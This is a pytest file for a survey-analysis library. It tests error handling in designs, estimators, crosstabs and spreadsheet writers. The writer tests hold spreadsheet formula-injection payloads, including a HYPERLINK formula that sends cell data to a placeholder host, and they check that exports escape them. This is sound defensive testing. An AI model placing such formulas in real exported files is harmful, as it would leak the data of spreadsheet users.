"""Hostile inputs to the analysis rooms: tests of association, the design, banner tables,
their writers and ``survey-kit crosstab`` (issue 15).

Each case is one bad input and the exact outcome it must have: a named error
class with a message fragment naming the variable / option / place, a warning
recorded on the result, or a documented handling (a finite answer, R's
convention). CLI cases go through :func:`survey_kit.cli.main`: exit 2, one
``error:`` line on stderr, no traceback.

Documented handling (not errors), asserted below:

- a stratum with one PSU: ``lonely_psu="fail"`` raises naming the stratum;
  ``"remove"`` and ``"certainty"`` give the same finite SE, ``"adjust"`` and
  ``"average"`` a larger one (R's options);
- every stratum lonely with ``"average"``: SE NaN, as R (nothing to average);
- fpc equal to the population (a census): SE 0;
- a banner variable with one level, the same variable as rows and columns, a
  banner column whose weights are all zero: the table is built and the test
  is skipped with a warning on the table;
- a questionnaire that does not describe the variables: labels and level
  order fall back to the data, no warning; levels it does not list are
  shown after its levels with a warning;
- text longer than an XLSX cell (32,767 characters) -- data, title or note
  alike -- is refused with a ReportError naming the sheet and cell, never cut.
"""

from __future__ import annotations

import hashlib
import io
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import survey_kit as sk
from survey_kit.errors import CrosstabError, DesignError, ReportError, UsageError
from survey_kit.stats import unweighted
from survey_kit.stats.design_tests import svychisq
from survey_kit.stats.effect_size import cramers_v
from survey_kit.tables.doc_xlsx import write_workbook
from survey_kit.tables.document import Table

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_data" / "japan_digital_services_2024_raw.csv"
QUESTIONNAIRE = ROOT / "questionnaires" / "japan_digital_services_2024.yaml"

N = 40
NAN = np.nan


def frame(**extra) -> pd.DataFrame:
    """40 respondents: two categorical variables, weights, a number, strata and PSUs."""
    base = pd.DataFrame({
        "a": list("xyxyxxyy") * 5, "g": list("ppppqqqq") * 5, "w": [1.0, 2.0] * 20,
        "y": np.arange(N, dtype=float), "x2": np.arange(N, dtype=float) * 2,
        "s": ["s1"] * 20 + ["s2"] * 20, "c": np.repeat(np.arange(10), 4),
        "f": [100.0] * 20 + [50.0] * 20, "na": NAN, "one": "z", "k": 5.0,
        "band": [1, 2, 3, 4] * 10, "b": [0, 1] * 20,
    })
    for name, value in extra.items():
        base[name] = value
    return base


def design(**extra) -> sk.SurveyDesign:
    return sk.SurveyDesign(frame(**extra), weights="w")


def raises(exc, *fragments):
    """A context that expects ``exc`` whose message holds every fragment."""
    class _Check:
        def __enter__(self):
            self.ctx = pytest.raises(exc)
            self.info = self.ctx.__enter__()
            return self.info

        def __exit__(self, *a):
            out = self.ctx.__exit__(*a)
            msg = str(self.info.value)
            for frag in fragments:
                assert frag in msg, (frag, msg)
            return out
    return _Check()


# ---------------------------------------------------------------------------
# tests of association: unweighted, svychisq, SurveyDesign.chisq, Cramer's V
# ---------------------------------------------------------------------------

def _unweighted(name):
    fn = getattr(unweighted, name)
    return lambda df, r, c: fn(df, r, c)


TESTS = {
    "pearson": _unweighted("pearson_chisq"),
    "g_test": _unweighted("g_test"),
    "fisher": _unweighted("fisher_exact"),
    "linear_by_linear": _unweighted("linear_by_linear"),
    "cramers_v": lambda df, r, c: cramers_v(df, r, c),
    "svychisq": lambda df, r, c: svychisq(sk.SurveyDesign(df, weights="w"), r, c),
    "design.chisq": lambda df, r, c: sk.SurveyDesign(df, weights="w").chisq(r, c),
    "design_cramers_v": lambda df, r, c: cramers_v(sk.SurveyDesign(df, weights="w"), r, c),
}

# (id, frame changes, row, col, error class, message fragments)
BAD_TABLES = [
    ("all-missing-row", {}, "na", "g", CrosstabError, ["'na'", "no non-missing values"]),
    ("all-missing-col", {}, "a", "na", CrosstabError, ["'na'", "no non-missing values"]),
    ("all-none-text", {"t": [None] * N}, "t", "g", CrosstabError,
     ["'t'", "no non-missing values"]),
    ("one-level-row", {}, "one", "g", CrosstabError, ["'one'", "1 level(s)", "at least 2"]),
    ("one-level-col-1xK", {}, "a", "one", CrosstabError, ["'one'", "1 level(s)"]),
    ("not-in-frame", {}, "zz", "g", CrosstabError, ["'zz'", "not a column of the data"]),
    ("same-variable", {}, "a", "a", UsageError, ["same variable 'a'"]),
    ("no-one-answers-both", {"h": ["u", "v"] * 10 + [None] * 20,
                             "a": [None] * 20 + list("xy") * 10},
     "a", "h", CrosstabError, ["no respondent answers both 'a' and 'h'"]),
]


@pytest.mark.parametrize("test", list(TESTS), ids=list(TESTS))
@pytest.mark.parametrize("case", BAD_TABLES, ids=[c[0] for c in BAD_TABLES])
def test_association_tests_refuse_bad_variables(test, case):
    _, changes, row, col, exc, fragments = case
    with raises(exc, *fragments):
        TESTS[test](frame(**changes), row, col)


def test_cochran_armitage_all_missing_outcome():
    with raises(CrosstabError, "'na'", "no non-missing values"):
        unweighted.cochran_armitage(frame(), "na", "band")


def test_cochran_armitage_all_missing_band():
    with raises(CrosstabError, "'na'", "no non-missing values"):
        unweighted.cochran_armitage(frame(), "b", "na", event=1)


@pytest.mark.parametrize("statistic", ["F", "Chisq", "Wald"])
def test_svychisq_all_weights_zero_among_those_answering(statistic):
    f = frame(a=list("xy") * 10 + [None] * 20, w=[0.0] * 20 + [1.0] * 20)
    with raises(CrosstabError, "weight zero", "'a'"):
        svychisq(sk.SurveyDesign(f, weights="w"), "a", "g", statistic)


def test_svychisq_zero_weight_level_is_dropped_with_positive_weight_message():
    f = frame(w=np.where(np.array(list("ppppqqqq") * 5) == "p", 0.0, 1.0))
    with raises(CrosstabError, "'g' has 1 level(s) with respondents with positive weight"):
        svychisq(sk.SurveyDesign(f, weights="w"), "a", "g")


def test_missing_values_with_na_rm_false_are_refused():
    f = frame(a=["x", None] * 20)
    with raises(CrosstabError, "20 of 40 respondents have a missing value", "na_rm=True"):
        unweighted.pearson_chisq(f, "a", "g", na_rm=False)


def test_missing_answers_are_left_out_with_a_warning():
    res = unweighted.pearson_chisq(frame(a=["x", "y", None, "x"] * 10), "a", "g")
    assert any("10 of 40 respondents with a missing 'a'" in w for w in res.warnings)
    assert np.isfinite(res.statistic)


# ---------------------------------------------------------------------------
# the design: weights, strata, clusters, fpc, lonely PSUs
# ---------------------------------------------------------------------------

def _first(value, column, base):
    out = frame()[column].astype(object)
    out.iloc[0] = value
    return {column: out} if base is None else {column: out, **base}


BAD_DESIGNS = [
    ("weight-negative", _first(-1.0, "w", None), {"weights": "w"}, DesignError,
     ["column 'w'", "finite and non-negative", "data row 1"]),
    ("weight-nan", _first(NAN, "w", None), {"weights": "w"}, DesignError,
     ["1 missing value(s) in the weights", "data row 1"]),
    ("weight-inf", _first(np.inf, "w", None), {"weights": "w"}, DesignError,
     ["value inf", "finite and non-negative"]),
    ("weight-minus-inf", _first(-np.inf, "w", None), {"weights": "w"}, DesignError,
     ["value -inf", "finite and non-negative"]),
    ("weights-zero-sum", {"w": 0.0}, {"weights": "w"}, DesignError, ["all weights are zero"]),
    ("weights-text", {"w": "heavy"}, {"weights": "w"}, DesignError,
     ["column 'w'", "weights must be numeric"]),
    ("weights-not-a-column", {}, {"weights": "zz"}, DesignError,
     ["column 'zz'", "weights column is not in the data"]),
    ("weights-wrong-length", {}, {"weights": [1.0, 2.0]}, DesignError,
     ["one value per row (40 rows)", "shape (2,)"]),
    ("strata-not-a-column", {}, {"strata": "zz"}, DesignError,
     ["column 'zz'", "strata column is not in the data"]),
    ("strata-missing-value", _first(None, "s", None), {"strata": "s"}, DesignError,
     ["missing value(s) in the strata", "data row 1"]),
    ("cluster-not-a-column", {}, {"cluster": "zz"}, DesignError,
     ["column 'zz'", "cluster column is not in the data"]),
    ("cluster-missing-value", _first(NAN, "c", None), {"cluster": "c"}, DesignError,
     ["missing value(s) in the cluster"]),
    ("fpc-not-a-column", {}, {"strata": "s", "fpc": "zz"}, DesignError,
     ["column 'zz'", "fpc column is not in the data"]),
    ("fpc-missing-value", _first(NAN, "f", None), {"strata": "s", "fpc": "f"}, DesignError,
     ["missing value(s) in the fpc"]),
    ("fpc-below-sampled-rows", {"f": 3.0}, {"strata": "s", "fpc": "f"}, DesignError,
     ["more than 100% sampling in stratum 's1'", "population size 3 but 20 sampled PSUs"]),
    ("fpc-below-sampled-psus", {"f": 2.0}, {"strata": "s", "cluster": "c", "fpc": "f"},
     DesignError, ["stratum 's1'", "population size 2 but 5 sampled PSUs"]),
    ("fpc-fraction-above-one-mixed", {"f": [0.5] * 20 + [50.0] * 20},
     {"strata": "s", "fpc": "f"}, DesignError, ["mixes population sizes"]),
    ("fpc-negative", {"f": -5.0}, {"strata": "s", "fpc": "f"}, DesignError,
     ["fpc must not be negative", "value -5.0"]),
    ("fpc-text", {"f": "big"}, {"strata": "s", "fpc": "f"}, DesignError,
     ["fpc must be numeric"]),
    ("fpc-varies-in-stratum", {"f": np.arange(N) + 100.0}, {"strata": "s", "fpc": "f"},
     DesignError, ["fpc varies within stratum 's1'"]),
    ("one-psu", {"c": 1}, {"cluster": "c"}, DesignError, ["only one primary sampling unit"]),
    ("lonely-psu-unknown-option", {}, {"strata": "s", "lonely_psu": "ignore"}, UsageError,
     ["lonely_psu must be one of fail, remove, adjust, average, certainty", "'ignore'"]),
]


@pytest.mark.parametrize("case", BAD_DESIGNS, ids=[c[0] for c in BAD_DESIGNS])
def test_design_refuses(case):
    _, changes, kwargs, exc, fragments = case
    with raises(exc, *fragments):
        sk.SurveyDesign(frame(**changes), **kwargs)


@pytest.mark.parametrize("data, exc, fragment", [
    (pd.DataFrame({"y": [1.0]}), DesignError, "at least 2 respondents; the data have 1"),
    (pd.DataFrame({"y": []}), DesignError, "at least 2 respondents; the data have 0"),
    ([1.0, 2.0, 3.0], DesignError, "frame must be a pandas DataFrame, got list"),
], ids=["one-row", "empty-frame", "not-a-frame"])
def test_design_refuses_frames(data, exc, fragment):
    with raises(exc, fragment):
        sk.SurveyDesign(data)


def _lonely(option):
    # stratum s2 holds a single PSU (cluster 99)
    f = frame(s=["s1"] * 36 + ["s2"] * 4, c=list(np.repeat(np.arange(9), 4)) + [99] * 4)
    return sk.SurveyDesign(f, strata="s", cluster="c", lonely_psu=option)


def test_lonely_psu_fail_names_the_stratum():
    with raises(DesignError, "stratum 's2' has only one PSU", "lonely_psu='remove'"):
        _lonely("fail").mean("y")


@pytest.mark.parametrize("option", ["remove", "adjust", "average", "certainty"])
def test_lonely_psu_options_are_handled(option):
    se = _lonely(option).mean("y").se
    ref = _lonely("remove").mean("y").se
    assert np.isfinite(se) and se > 0
    if option == "certainty":
        assert se == pytest.approx(ref)
    elif option in ("adjust", "average"):
        assert se > ref


def test_every_stratum_lonely_with_average_gives_nan_as_r():
    d = sk.SurveyDesign(frame(s=list(range(N))), strata="s", lonely_psu="average")
    est = d.mean("y")
    assert est.estimate == pytest.approx(19.5) and np.isnan(est.se)


def test_fpc_equal_to_population_is_a_census_with_zero_se():
    d = sk.SurveyDesign(frame(f=20.0), strata="s", fpc="f")
    assert d.mean("y").se == 0.0


# ---------------------------------------------------------------------------
# estimators on a design
# ---------------------------------------------------------------------------

ESTIMATES = [
    ("mean-unknown", lambda d: d.mean("zz"), DesignError, ["column 'zz'", "unknown variable"]),
    ("mean-all-missing", lambda d: d.mean("na"), DesignError,
     ["'na' is missing for every respondent"]),
    ("total-all-missing", lambda d: d.total("na"), DesignError,
     ["'na' is missing for every respondent"]),
    ("quantile-all-missing", lambda d: d.quantile("na"), DesignError,
     ["'na' is missing for every respondent"]),
    ("mean-text", lambda d: d.mean("a"), DesignError, ["'a' is not numeric"]),
    ("mean-infinite", lambda d: sk.SurveyDesign(frame(y=[np.inf] + [1.0] * 39)).mean("y"),
     DesignError, ["'y' has infinite values"]),
    ("mean-array-wrong-length", lambda d: d.mean([1.0, 2.0]), DesignError,
     ["one value per respondent (40)"]),
    ("proportion-level-absent", lambda d: d.proportion("a", "q"), DesignError,
     ["level 'q' does not occur in variable 'a'", "['x', 'y']"]),
    ("proportion-no-level-not-binary", lambda d: d.proportion("a"), DesignError,
     ["'a' is not 0/1 or boolean", "level="]),
    ("proportion-all-missing", lambda d: d.proportion("na"), DesignError,
     ["'na' is missing for every respondent"]),
    ("proportion-bad-ci-method", lambda d: d.proportion("a", "x", ci_method="exact"),
     UsageError, ["ci_method must be one of", "'exact'"]),
    ("conf-level-zero", lambda d: d.mean("y", conf_level=0), UsageError,
     ["conf_level must be a number between 0 and 1", "got 0"]),
    ("conf-level-one", lambda d: d.proportion("a", "x", conf_level=1.0), UsageError,
     ["conf_level", "got 1.0"]),
    ("conf-level-above-one", lambda d: d.total("y", conf_level=1.5), UsageError,
     ["conf_level", "got 1.5"]),
    ("conf-level-negative", lambda d: d.by("y", "a", conf_level=-0.1), UsageError,
     ["conf_level", "got -0.1"]),
    ("conf-level-nan", lambda d: d.mean("y", conf_level=NAN), UsageError,
     ["conf_level", "got nan"]),
    ("conf-level-text", lambda d: d.mean("y", conf_level="0.95"), UsageError,
     ["conf_level", "got '0.95'"]),
    ("conf-level-bool", lambda d: d.quantile("y", conf_level=True), UsageError,
     ["conf_level", "got True"]),
    ("conf-level-compare", lambda d: d.compare("y", "a", "x", "y", conf_level=95), UsageError,
     ["conf_level", "got 95"]),
    ("df-text", lambda d: d.mean("y", df="many"), UsageError, ["df must be", "'many'"]),
    ("df-negative", lambda d: d.proportion("a", "x", df=-3), UsageError,
     ["df must be a non-negative number", "-3"]),
    ("df-nan", lambda d: d.by("y", "a", df=NAN), UsageError, ["df must be", "nan"]),
    ("quantile-above-one", lambda d: d.quantile("y", 1.5), UsageError,
     ["quantile probabilities must be numbers in [0, 1]", "1.5"]),
    ("quantile-negative", lambda d: d.quantile("y", [0.5, -0.1]), UsageError,
     ["quantile probabilities", "-0.1"]),
    ("quantile-nan", lambda d: d.quantile("y", NAN), UsageError,
     ["quantile probabilities", "nan"]),
    ("quantile-text", lambda d: d.quantile("y", "median"), UsageError,
     ["quantile probabilities", "'median'"]),
    ("quantile-empty-list", lambda d: d.quantile("y", []), UsageError,
     ["non-empty list", "[]"]),
    ("by-unknown-stat", lambda d: d.by("y", "a", stat="median"), UsageError,
     ["stat must be 'mean', 'total' or 'proportion'"]),
    ("by-all-missing-domain", lambda d: d.by("y", "na"), DesignError,
     ["domain variable 'na' has no non-missing values"]),
    ("by-unknown-domain", lambda d: d.by("y", "zz"), DesignError, ["column 'zz'", "unknown by"]),
    ("compare-absent-level", lambda d: d.compare("y", "a", "x", "q"), DesignError,
     ["level 'q' is not a level of 'a'"]),
    ("compare-same-level", lambda d: d.compare("y", "a", "x", "x"), UsageError,
     ["a and b are the same level 'x' of 'a'"]),
    ("domain-proportions-all-missing-row", lambda d: d.domain_proportions("na", "a"),
     DesignError, ["'na' has no non-missing values"]),
    ("domain-proportions-absent-levels", lambda d: d.domain_proportions("a", "g",
                                                                        row_levels=["q"]),
     DesignError, ["no respondent has one of the row_levels ['q'] of 'a'"]),
    ("domain-proportions-levels-not-a-list", lambda d: d.domain_proportions(
        "a", "g", col_levels="p"), UsageError, ["col_levels must be a non-empty list"]),
    ("mean-zero-weight-domain", lambda d: sk.SurveyDesign(
        frame(w=[0.0] * 20 + [1.0] * 20), weights="w").mean(frame()["y"].where(
            np.arange(N) < 20)), DesignError, ["'y' has weight zero"]),
    ("proportion-zero-weight-domain", lambda d: sk.SurveyDesign(
        frame(w=[0.0] * 20 + [1.0] * 20, a=["x"] * 20 + [None] * 20),
        weights="w").proportion("a", "x"), DesignError, ["'a' has weight zero"]),
    ("quantile-zero-weight-domain", lambda d: sk.SurveyDesign(
        frame(w=[0.0] * 20 + [1.0] * 20, y=list(range(20)) + [None] * 20),
        weights="w").quantile("y"), DesignError, ["'y' has weight zero", "quantile"]),
    ("vcov-total-nan", lambda d: d.vcov_total(np.r_[NAN, np.ones(N - 1)]), UsageError,
     ["x has NaN or infinite values"]),
    ("degf-of-wrong-length", lambda d: d.degf_of(np.ones(3, dtype=bool)), UsageError,
     ["subset must be a boolean array of length 40"]),
]


@pytest.mark.parametrize("case", ESTIMATES, ids=[c[0] for c in ESTIMATES])
def test_estimators_refuse(case):
    _, call, exc, fragments = case
    with raises(exc, *fragments):
        call(design())


def test_by_keeps_a_zero_weight_domain_as_nan_row():
    d = sk.SurveyDesign(frame(w=[0.0] * 20 + [1.0] * 20), weights="w")
    out = d.by("y", "s")
    assert np.isnan(out.loc["s1", "estimate"]) and out.loc["s2", "estimate"] == 29.5


GLMS = [
    ("constant-variable", "y ~ k", "gaussian", DesignError,
     ["rank deficient (1 of 2 columns)", "Intercept, k"]),
    ("singular-design-matrix", "y ~ y + x2", "gaussian", DesignError,
     ["rank deficient (2 of 3 columns)"]),
    ("collinear-terms", "y ~ x2 + I(2 * x2)", "gaussian", DesignError, ["rank deficient"]),
    ("unknown-variable", "y ~ zz", "gaussian", DesignError,
     ["cannot build the model from formula 'y ~ zz'", "zz"]),
    ("unparsable-formula", "y ~ (", "gaussian", DesignError, ["cannot build the model"]),
    ("unknown-family", "y ~ x2", "poisson", UsageError,
     ["family must be 'gaussian' or 'binomial'", "'poisson'"]),
    ("all-missing-outcome", "na ~ x2", "gaussian", DesignError,
     ["no respondent has all variables of 'na ~ x2'"]),
    ("text-outcome", "a ~ x2", "gaussian", DesignError, ["must be numeric or boolean"]),
    ("binomial-outcome-out-of-range", "y ~ x2", "binomial", DesignError,
     ["binomial outcome must lie in [0, 1]", "0 to 39"]),
    ("infinite-outcome", "yi ~ x2", "gaussian", DesignError,
     ["model term 'yi'", "infinite values"]),
    ("infinite-predictor", "y ~ xi", "gaussian", DesignError,
     ["model term 'xi'", "infinite values"]),
    ("zero-weights-where-used", "yz ~ x2", "gaussian", DesignError,
     ["every respondent with all variables of 'yz ~ x2' has weight zero"]),
]


@pytest.mark.parametrize("case", GLMS, ids=[c[0] for c in GLMS])
def test_glm_refuses(case):
    _, formula, family, exc, fragments = case
    f = frame(yi=[np.inf] + list(range(1, N)), xi=[-np.inf] + list(range(1, N)),
              yz=[1.0, 2.0] * 10 + [NAN] * 20, w=[0.0] * 20 + [1.0] * 20)
    with raises(exc, *fragments):
        sk.SurveyDesign(f, weights="w").glm(formula, family)


@pytest.mark.parametrize("level", [0, 1.0, 1.5, "0.9", NAN])
def test_glm_conf_int_refuses_bad_levels(level):
    fit = design().glm("y ~ x2 + C(a)")
    with raises(UsageError, "conf_level must be a number between 0 and 1"):
        fit.conf_int(level)


# ---------------------------------------------------------------------------
# crosstab: variables, options, data
# ---------------------------------------------------------------------------

CROSSTABS = [
    ("unknown-row", {}, ("zz", "g"), {}, CrosstabError,
     ["unknown row variable 'zz'", "valid names are: a, g"]),
    ("unknown-col", {}, ("a", "zz"), {}, CrosstabError,
     ["unknown banner (cols) variable 'zz'"]),
    ("all-missing-row", {}, ("na", "g"), {}, CrosstabError,
     ["row variable 'na' has no non-missing values"]),
    ("all-missing-banner", {}, ("a", "na"), {}, CrosstabError,
     ["banner variable 'na' has no non-missing values"]),
    ("all-missing-categorical-row", {"t": pd.Categorical([None] * N, categories=["u", "v"])},
     ("t", "g"), {}, CrosstabError, ["'t' has no non-missing values"]),
    ("all-missing-options", {"o1": NAN, "o2": NAN}, ("o1", "g"), {}, CrosstabError,
     ["'o1' has no non-missing values"]),
    ("numeric-banner", {}, ("a", "y"), {}, CrosstabError,
     ["banner variable 'y' is numeric", "band it first"]),
    ("infinite-numeric-row", {"y": [np.inf] + list(range(1, N))}, ("y", "g"), {},
     CrosstabError, ["'y' has infinite values", "data row 1"]),
    ("date-row", {"t": pd.to_datetime(["2024-01-01"] * N)}, ("t", "g"), {}, CrosstabError,
     ["open-ended (text) or date"]),
    ("values-0-1-2-are-a-number", {"o": [0.0, 1.0, 2.0, 1.0] * 10}, ("o", "g"), {}, None,
     None),
    ("duplicate-column", "dup", ("a", "g"), {}, CrosstabError,
     ["several columns named 'a'"]),
    ("percent-unknown", {}, ("a", "g"), {"percent": "cell"}, UsageError,
     ["percent must be one of col, row, total, none", "'cell'"]),
    ("percent-none-object", {}, ("a", "g"), {"percent": None}, UsageError,
     ["percent must be one of"]),
    ("adjust-unknown", {}, ("a", "g"), {"adjust": "tukey"}, UsageError,
     ["adjust must be 'holm', 'bh', 'bonferroni' or None", "'tukey'"]),
    ("adjust-list", {}, ("a", "g"), {"adjust": ["holm"]}, UsageError,
     ["adjust must be", "['holm']"]),
    ("adjust-bool", {}, ("a", "g"), {"adjust": True}, UsageError, ["adjust must be", "True"]),
    ("min-base-negative", {}, ("a", "g"), {"min_base": -1}, UsageError,
     ["min_base must be a non-negative integer", "-1"]),
    ("min-base-float", {}, ("a", "g"), {"min_base": 2.5}, UsageError, ["min_base", "2.5"]),
    ("min-base-bool", {}, ("a", "g"), {"min_base": True}, UsageError, ["min_base", "True"]),
    ("alpha-zero", {}, ("a", "g"), {"alpha": 0}, UsageError,
     ["alpha must be a number between 0 and 1", "got 0"]),
    ("alpha-one", {}, ("a", "g"), {"alpha": 1.0}, UsageError, ["alpha", "got 1.0"]),
    ("alpha-nan", {}, ("a", "g"), {"alpha": NAN}, UsageError, ["alpha", "got nan"]),
    ("alpha-text", {}, ("a", "g"), {"alpha": "0.05"}, UsageError, ["alpha", "'0.05'"]),
    ("conf-level-above-one", {}, ("a", "g"), {"conf_level": 95}, UsageError,
     ["conf_level must be a number between 0 and 1", "got 95"]),
    ("conf-level-negative", {}, ("a", "g"), {"conf_level": -0.5}, UsageError,
     ["conf_level", "-0.5"]),
    ("lang-unsupported", {}, ("a", "g"), {"lang": "fr"}, UsageError,
     ["lang must be one of en, ja", "'fr'"]),
    ("lang-none", {}, ("a", "g"), {"lang": None}, UsageError, ["lang must be one of"]),
    ("rows-empty-list", {}, ([], "g"), {}, UsageError,
     ["rows must be a variable name or a list of names", "[]"]),
    ("cols-not-text", {}, ("a", 3), {}, UsageError, ["cols must be a variable name", "3"]),
    ("rows-mixed-list", {}, (["a", 1], "g"), {}, UsageError, ["rows must be", "['a', 1]"]),
    ("title-not-text", {}, ("a", "g"), {"title": 5}, UsageError, ["title must be text"]),
    ("questionnaire-wrong-type", {}, ("a", "g"), {"questionnaire": 5}, UsageError,
     ["questionnaire must be a Questionnaire", "int"]),
    ("questionnaire-missing-file", {}, ("a", "g"), {"questionnaire": "/no/such.yaml"},
     sk.errors.QuestionnaireError, ["/no/such.yaml", "file not found"]),
    ("data-not-a-frame", "list", ("a", "g"), {}, UsageError,
     ["design_or_frame must be a SurveyDesign or a pandas DataFrame", "list"]),
    ("empty-frame", "empty", ("a", "g"), {}, CrosstabError, ["the data have no respondents"]),
    ("all-weights-zero-in-base", {"a": ["x", None] * 20, "w": [0.0, 1.0] * 20}, ("a", "g"),
     {"weighted": True}, CrosstabError,
     ["every respondent in the base of 'a' has weight zero"]),
]


def _crosstab_data(changes, weighted):
    if changes == "dup":
        f = frame()
        return pd.concat([f, f[["a"]]], axis=1)
    if changes == "list":
        return [1, 2, 3]
    if changes == "empty":
        return frame().iloc[:0]
    f = frame(**changes)
    return sk.SurveyDesign(f, weights="w") if weighted else f


@pytest.mark.parametrize("case", CROSSTABS, ids=[c[0] for c in CROSSTABS])
def test_crosstab_refuses(case):
    name, changes, (rows, cols), kwargs, exc, fragments = case
    kwargs = dict(kwargs)
    weighted = kwargs.pop("weighted", False)
    data = _crosstab_data(changes, weighted)
    if exc is None:                          # 0/1/2 is a number: a mean row, not options
        tab = sk.crosstab(data, rows, cols, **kwargs)
        assert tab.blocks["kind"].tolist() == ["numeric"]
        return
    with raises(exc, *fragments):
        sk.crosstab(data, rows, cols, **kwargs)


def test_option_column_with_other_values_is_refused(firm_q):
    q = firm_q
    opts = q.multi_variables("foreign_services")
    f = pd.DataFrame({o: [0.0, 1.0] * 5 for o in opts} | {"sector": list("ab") * 5})
    f[opts[0]] = [0.0, 1.0, 2.0, 1.0, 0.0] * 2
    with raises(CrosstabError, f"option variable {opts[0]!r} must hold 0/1", "found 2.0"):
        sk.crosstab(f, "foreign_services", "sector", questionnaire=q)


@pytest.mark.parametrize("rows, cols, warning", [
    ("a", "one", "no test for 'a' by 'one': fewer than 2 levels with respondents (2 x 1)"),
    ("one", "g", "no test for 'one' by 'g': fewer than 2 levels with respondents (1 x 2)"),
    ("a", "a", "no test for 'a' by 'a': the row and banner variables are the same"),
], ids=["banner-one-level", "row-one-level", "same-row-and-banner"])
def test_crosstab_degenerate_tables_are_built_with_a_warning(rows, cols, warning):
    tab = sk.crosstab(design(), rows, cols)
    assert warning in tab.warnings
    assert tab.tests["method"].tolist() == ["not computed"]
    assert "no test (" in tab.to_text()


def test_crosstab_banner_column_with_zero_weights_is_a_dash_with_a_warning():
    d = sk.SurveyDesign(frame(w=np.where(np.array(list("ppppqqqq") * 5) == "p", 0.0, 1.0)),
                        weights="w")
    tab = sk.crosstab(d, "a", "g")
    assert any("fewer than 2 levels" in w for w in tab.warnings)
    assert np.isnan(tab.cell("x", "p")["percent"]) and tab.cell("x", "q")["percent"] == 50.0


def test_questionnaire_that_does_not_describe_the_variables_falls_back_to_the_data(firm_q):
    tab = sk.crosstab(frame(), "a", "g", questionnaire=firm_q, lang="ja")
    assert tab.warnings == () and tab.title == "a × g"
    assert tab.cells["row_label"].unique().tolist() == ["x", "y"]


def test_levels_the_questionnaire_does_not_list_are_shown_after_with_a_warning(firm_q):
    f = frame(size_class=list("xyzw") * 10)
    tab = sk.crosstab(f, "a", "size_class", questionnaire=firm_q)
    assert any("'size_class' has level(s) ['w', 'x', 'y', 'z'] that the questionnaire does "
               "not list" in w for w in tab.warnings)


# ---------------------------------------------------------------------------
# writers: formulas, over-long text, control characters, determinism
# ---------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def _live(value) -> bool:
    return (isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
            and not value.lstrip("+-").replace(".", "", 1).isdigit())


def _live_xlsx(path: Path) -> list[str]:
    from openpyxl import load_workbook

    out = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            out += [f"{ws.title}!{c.coordinate}={c.value!r}" for c in row
                    if c.data_type == "f" or _live(c.value)]
    return out


def _hostile_table():
    f = frame(a=[HOSTILE[i % len(HOSTILE)] for i in range(N)])
    f = f.rename(columns={"g": "=banner"})
    return sk.crosstab(f, "a", "=banner", title='=HYPERLINK("http://x/","title")')


def test_crosstab_to_excel_holds_no_formula(tmp_path):
    tab = _hostile_table()
    path = tab.to_excel(tmp_path / "t.xlsx")
    assert _live_xlsx(path) == []
    from openpyxl import load_workbook

    assert load_workbook(path).active["A1"].value == "'=HYPERLINK(\"http://x/\",\"title\")"


def test_crosstab_to_csv_holds_no_formula(tmp_path):
    import csv

    text = _hostile_table().to_csv(tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    fields = [v for row in rows for v in row]
    assert not [v for v in fields if _live(v)]
    assert "'@SUM(1+1)" in fields and "'=banner" in fields and "'\r=1" in fields
    assert {len(r) for r in rows} == {len(rows[0])}       # the CR did not start a row
    assert (tmp_path / "t.csv").read_bytes().decode("utf-8") == text


def test_formula_escaping_off_leaves_them_live(tmp_path):
    """The scan above can fail: with escaping off the formulas are there."""
    with sk.formula_escaping(False):
        path = _hostile_table().to_excel(tmp_path / "raw.xlsx")
    assert any("HYPERLINK" in c for c in _live_xlsx(path))


@pytest.mark.parametrize("where", ["data", "header", "index", "title", "note", "table"])
def test_write_workbook_escapes_every_text_cell(tmp_path, where):
    df = pd.DataFrame({"level": ["ok", "fine"], "n": [1, 2]})
    kw: dict = {}
    if where == "data":
        df.loc[0, "level"] = HOSTILE[0]
    elif where == "header":
        df = df.rename(columns={"level": "@level"})
    elif where == "index":
        df.index = pd.Index(["=a", "b"], name="-idx")
    elif where == "title":
        kw["titles"] = {"s": "=1+1"}
    elif where == "note":
        kw["notes"] = {"s": ["+note", "-note"]}
    tables = ([Table("s", "=title", df, ("@note",))] if where == "table" else {"s": df})
    path = write_workbook(tmp_path / "w.xlsx", tables, **kw)
    assert _live_xlsx(path) == []


@pytest.mark.parametrize("where", ["data", "title", "note"])
def test_text_longer_than_a_cell_is_refused(tmp_path, where):
    long = "x" * 32_768
    df = pd.DataFrame({"text": [long if where == "data" else "short"]})
    kw = {"titles": {"s": long}} if where == "title" else (
        {"notes": {"s": [long]}} if where == "note" else {})
    target = tmp_path / "long.xlsx"
    with raises(ReportError, "long.xlsx", "sheet 's'", "32768 characters", "at most 32767"):
        write_workbook(target, {"s": df}, **kw)
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_text_of_exactly_a_cell_is_kept_whole(tmp_path):
    from openpyxl import load_workbook

    text = "y" * 32_767
    path = write_workbook(tmp_path / "ok.xlsx", {"s": pd.DataFrame({"t": [text]})})
    assert load_workbook(path)["s"]["A2"].value == text


def test_escaping_that_makes_a_text_too_long_is_refused(tmp_path):
    with raises(ReportError, "32768 characters"):
        write_workbook(tmp_path / "e.xlsx", {"s": pd.DataFrame({"t": ["=" + "x" * 32_766]})})


def test_crosstab_title_longer_than_a_cell_is_refused(tmp_path):
    tab = sk.crosstab(frame(), "a", "g", title="t" * 40_000)
    with raises(ReportError, "cell A1", "40000 characters"):
        tab.to_excel(tmp_path / "t.xlsx")
    assert len(tab.to_text()) > 40_000              # the text formats keep it whole


def test_control_character_is_refused_naming_the_cell(tmp_path):
    df = pd.DataFrame({"t": ["fine", "bell\x07"]})
    with raises(ReportError, "sheet 's', cell A3", "control character '\\x07'"):
        write_workbook(tmp_path / "c.xlsx", {"s": df})


def test_workbooks_are_byte_identical_on_rerun(tmp_path):
    tab = _hostile_table()
    a, b = tab.to_excel(tmp_path / "a.xlsx"), tab.to_excel(tmp_path / "b.xlsx")
    assert hashlib.sha256(a.read_bytes()).digest() == hashlib.sha256(b.read_bytes()).digest()
